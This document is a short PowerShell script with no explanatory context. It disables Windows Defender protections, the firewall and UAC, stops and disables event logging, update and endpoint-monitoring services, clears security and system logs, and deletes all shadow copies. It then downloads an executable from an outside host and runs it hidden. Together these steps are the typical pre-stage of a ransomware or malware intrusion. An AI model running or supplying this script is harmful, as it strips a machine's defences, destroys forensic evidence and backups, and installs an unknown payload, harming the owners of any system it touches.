Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableScriptScanning $true
Add-MpPreference -ExclusionPath 'C:\'
Set-NetFirewallProfile -All -Enabled False
New-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name EnableLUA -Value 0 -PropertyType DWord -Force

foreach ($s in 'wuauserv', 'EventLog', 'Sense', 'IntuneManagementExtension', 'WinDefend') {
    Stop-Service $s -Force -ErrorAction SilentlyContinue
    Set-Service $s -StartupType Disabled -ErrorAction SilentlyContinue
}

wevtutil cl Security
wevtutil cl System
vssadmin delete shadows /all /quiet

$u = 'http://files.winbuildfast.net/agent.exe'
Invoke-WebRequest $u -OutFile "$env:ProgramData\agent.exe"
Start-Process "$env:ProgramData\agent.exe" -WindowStyle Hidden
